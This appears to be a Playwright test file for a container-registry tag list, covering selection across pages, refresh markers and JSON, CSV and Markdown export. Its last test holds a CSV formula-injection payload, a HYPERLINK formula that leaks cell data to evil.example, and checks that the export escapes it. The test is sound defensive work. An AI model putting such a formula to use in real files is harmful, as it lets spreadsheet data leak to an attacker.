// Selecting over all pages, what survives, and what is copied and saved of it.

import { BIG, allRead, expect, expectNames, expectRange, exported, filterBox, names, openList, test } from "../../fixtures/long-list.mjs";
import { table } from "../../fixtures/screens.mjs";

const selection = (page) => page.getByRole("region", { name: "Selection" });
const box = (page, name) => page.getByRole("checkbox", { name: `Select ${name}`, exact: true });

test("all that match are selected over all pages, stay so through order, pages and refresh, and are copied", async ({ page, list }) => {
  await openList(page);
  await filterBox(page).fill("-by:svc-ci");
  const wanted = list.filter((row) => row.lastModifiedBy !== "svc-ci").map(({ tag }) => tag);
  const count = wanted.length.toLocaleString("en");
  await expect(page.getByRole("main")).toContainText(`${count} tags match`, { timeout: 20_000 });
  await page.getByRole("checkbox", { name: "Select all on this page" }).check();
  await expect(selection(page)).toContainText("20 tags selected");
  await page.getByRole("button", { name: `Select all ${count} matching`, exact: true }).click();
  const isKept = async () => {
    await expect(selection(page)).toContainText(`${count} tags selected`);
    await expect(selection(page)).toContainText(`${(wanted.length - 20).toLocaleString("en")} on other pages`);
    await expect(page.locator("tr[data-row].is-selected")).toHaveCount(20);
  };
  await isKept();
  await table(page, "Tags").getByRole("columnheader", { name: "Downloads" }).getByRole("button").click();
  await expect(page).toHaveURL(/sort=-downloads/);
  await isKept();
  await page.getByRole("link", { name: "Next page" }).click();
  await expectRange(page, "21–40 of");
  await isKept();
  await page.getByRole("button", { name: "Refresh", exact: true }).click();
  await allRead(page);
  await isKept();
  await filterBox(page).fill("");
  await expectRange(page, "1–20 of 20,000 tags");
  await expect(selection(page)).toContainText(`${count} tags selected`);
  await selection(page).getByRole("button", { name: "Copy references" }).click();
  await expect(page.getByRole("status").filter({ hasText: `Copied ${count} references` })).toBeVisible();
  const copied = (await page.evaluate(() => navigator.clipboard.readText())).split("\n");
  const references = wanted.map((tag) => `docker.bkrepo.example.com/demo/images/big:${tag}`);
  expect(copied.toSorted()).toEqual(references.toSorted());
  await selection(page).getByRole("button", { name: "Clear selection" }).click();
  await expect(selection(page)).toHaveCount(0);
});

test("Shift selects a range, and a range that is given back is let go", async ({ page }) => {
  await openList(page);
  const shown = await names(page);
  await box(page, shown[3]).click();
  await box(page, shown[8]).click({ modifiers: ["Shift"] });
  await expect(selection(page)).toContainText("6 tags selected");
  for (const name of shown.slice(3, 9)) await expect(box(page, name)).toBeChecked();
  await box(page, shown[3]).click();
  await box(page, shown[5]).click({ modifiers: ["Shift"] });
  await expect(selection(page)).toContainText("3 tags selected");
  await selection(page).getByRole("button", { name: "Copy references" }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(shown.slice(6, 9).map((tag) => `docker.bkrepo.example.com/demo/images/big:${tag}`).join("\n"));
});

test("a refresh marks what is new and what is gone, and keeps focus and selection", async ({ page, deleteBehind, mock }) => {
  await deleteBehind("v50.19.5");
  await openList(page);
  await expectRange(page, "of 19,999 tags");
  const shown = await names(page);
  expect(shown).not.toContain("v50.19.5");
  const [first, gone, focused] = [shown[0], shown[2], shown[4]];
  await box(page, first).check();
  await page.getByRole("link", { name: focused, exact: true }).focus();
  await mock.reset();
  await deleteBehind(gone);
  await page.keyboard.press("r");
  const row = (name) => page.locator(`tr[data-row="${name}"]`);
  await expect(row(gone)).toContainText("removed");
  await expect(row(gone).getByRole("checkbox")).toHaveCount(0);
  await expect(row(gone).getByRole("button")).toHaveCount(0);
  await expect(row("v50.19.5")).toContainText("new");
  await expect(page.getByRole("main")).toContainText("1 new and 1 removed on this page since the last load");
  await expect(box(page, first)).toBeChecked();
  await expect(page.getByRole("link", { name: focused, exact: true })).toBeFocused();
  // The marks are gone after the next page turn.
  await page.getByRole("link", { name: "Next page" }).click();
  await expectRange(page, "21–40 of 19,999 tags");
  await page.getByRole("link", { name: "Previous page" }).click();
  await expect(row(gone)).toHaveCount(0);
  await expect(row("v50.19.5")).not.toContainText("new");
});

test("a refresh of a list that was read whole marks over all of it, in the order of the screen", async ({ page, deleteBehind, list }) => {
  await openList(page, "?sort=tag");
  await allRead(page);
  const wanted = list.map(({ tag }) => tag).sort();
  await expectNames(page, wanted.slice(0, 20));
  const gone = wanted[6];
  await page.getByRole("link", { name: wanted[9], exact: true }).focus();
  await deleteBehind(gone);
  await page.keyboard.press("r");
  await expect(page.locator(`tr[data-row="${gone}"]`)).toContainText("removed", { timeout: 20_000 });
  await expectNames(page, wanted.slice(0, 21));
  await expect(page.getByRole("main")).toContainText("1 removed since the last load");
  await expect(page.getByRole("link", { name: wanted[9], exact: true })).toBeFocused();
});

test("what matches is saved from every page, in the order of the screen", async ({ page, list }) => {
  await openList(page, "?q=stage%3Arelease&sort=-downloads");
  await allRead(page);
  const wanted = list.filter((row) => row.stageTag.includes("@release")).toSorted((left, right) => right.downloadCount - left.downloadCount);
  await expect(page.getByRole("main")).toContainText(`${wanted.length.toLocaleString("en")} tags match`);
  const json = await exported(page, "JSON");
  expect(json.name).toBe("big-tags.json");
  const rows = JSON.parse(json.text);
  expect(rows.map(({ tag, downloads, size }) => [tag, downloads, size])).toEqual(wanted.map((row) => [row.tag, row.downloadCount, row.size]));
  expect(rows[0].reference).toBe(`docker.bkrepo.example.com/demo/images/big:${wanted[0].tag}`);
  const csv = (await exported(page, "CSV")).text.split("\r\n");
  expect(csv[0]).toBe("Tag,Stage,Size,Last modified,Modified by,Downloads,Digest,Platforms,Reference");
  expect(csv.slice(1, -1).map((line) => line.split(",")[0])).toEqual(wanted.map(({ tag }) => tag));
  const markdown = (await exported(page, "Markdown")).text.trimEnd().split("\n");
  expect(markdown).toHaveLength(wanted.length + 2);
  expect(markdown[2]).toContain(wanted[0].tag);
});

test("a filter that changes before all is read calls off what was to be saved, and says so", async ({ page, mock }) => {
  await openList(page);
  await mock.fail(`*/ext/tag/${BIG}?*pageNumber=5&*pageSize=1000*`, "hang", 1);
  const downloads = [];
  page.on("download", (file) => downloads.push(file));
  await page.locator("summary").filter({ hasText: "Export" }).click();
  await page.getByRole("button", { name: "CSV", exact: true }).click();
  await expect(page.getByRole("main")).toContainText("4,000 of 20,000 tags loaded");
  await filterBox(page).fill("downloads:>12000");
  await expect(page.getByRole("status").filter({ hasText: "Cancelled: not all rows were loaded. The filter changed." })).toBeVisible();
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await page.getByRole("button", { name: "Load the rest" }).click();
  await allRead(page);
  expect(downloads).toEqual([]);
});

test("no text of a stranger becomes a formula in what is saved", async ({ page }) => {
  for (const image of ["xss", "xss/tags"]) {
    await page.goto(`/demo/images/${image}`);
    await page.getByRole("button", { name: "Refresh", exact: true }).waitFor();
    const { text } = await exported(page, "CSV");
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")"`);
    // Each cell, as a reader of CSV takes it.
    const cells = [...text.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) => quoted ?? plain);
    expect(cells.length).toBeGreaterThan(10);
    expect(cells.filter((cell) => /^[\s\u200b-\u206f]*[=+\-@]/.test(cell))).toEqual([]);
  }
});
